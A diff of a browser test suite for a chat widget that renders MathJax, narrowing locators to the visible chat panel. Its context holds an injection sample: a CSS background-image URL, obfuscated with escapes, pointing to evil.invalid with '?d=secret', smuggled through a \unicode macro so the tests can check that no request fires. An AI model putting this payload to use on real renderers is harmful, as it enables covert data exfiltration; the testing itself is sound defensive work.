@@ -56,8 +56,10 @@ const renderSaved = (): Promise<string> =>
     return note;
   });
 
-const text = async (): Promise<string> => (await page.locator(".lectern-chat-text").innerText()).trim();
-const formulas = (): Promise<number> => page.locator(".lectern-chat-text mjx-container").count();
+const text = async (): Promise<string> =>
+  (await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text").innerText()).trim();
+const formulas = (): Promise<number> =>
+  page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text mjx-container").count();
 
 const STYLE = "background-image:url(\\68 ttps:\\2f\\2f evil.invalid/u1?d=secret)";
 const UNICODE = `\\unicode[a;${STYLE}]{65}`;
@@ -95,7 +97,7 @@ describe.each(["now", "later"] as const)("rendered %s", (when) => {
       await renderLate();
     };
     expect(await requests(act)).toEqual([]);
-    expect(await page.locator(".lectern-chat-text [style*='url']").count()).toBe(0);
+    expect(await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text [style*='url']").count()).toBe(0);
     expect(await requests(async () => expect(await renderSaved()).toContain("Look:"))).toEqual([]);
   });
 
@@ -106,11 +108,15 @@ describe.each(["now", "later"] as const)("rendered %s", (when) => {
       const display = `$$\n\\begin{align}\n${BOX} \\\\\n- y\n\\end{align}\n$$`;
       await show(`$a<b$, $\\frac12$ and $${UNICODE}$.\n\n${display}\n\n> $x$ and $\\foo_a*b*\`\`$`);
       await renderLate();
-      const code = page.locator(".lectern-chat-text code");
+      const code = page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text code");
       expect(await code.allTextContents()).toEqual([`$${UNICODE}$`, ...display.split("\n"), "$\\foo_a*b*``$"]);
       expect(await formulas()).toBe(3);
-      expect(await page.locator(".lectern-chat-text :is(mjx-merror, mjx-utext)").count()).toBe(0);
-      expect(await page.locator(".lectern-chat-text").innerHTML()).not.toContain("\ufdd0");
+      expect(
+        await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text :is(mjx-merror, mjx-utext)").count(),
+      ).toBe(0);
+      expect(await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text").innerHTML()).not.toContain(
+        "\ufdd0",
+      );
     },
   );
 
@@ -125,9 +131,15 @@ describe.each(["now", "later"] as const)("rendered %s", (when) => {
     await show(MATHEMATICS.map((formula) => `$${formula}$`).join("\n\n"));
     await renderLate();
     expect(await formulas()).toBe(MATHEMATICS.length);
-    expect(await page.locator(".lectern-chat-text :is(mjx-merror, code)").allTextContents()).toEqual([]);
+    expect(
+      await page
+        .locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text :is(mjx-merror, code)")
+        .allTextContents(),
+    ).toEqual([]);
     // What is not defined would be red.
-    expect(await page.locator(".lectern-chat-text [style*='color: red']").count()).toBe(1);
+    expect(
+      await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text [style*='color: red']").count(),
+    ).toBe(1);
   });
 });
 
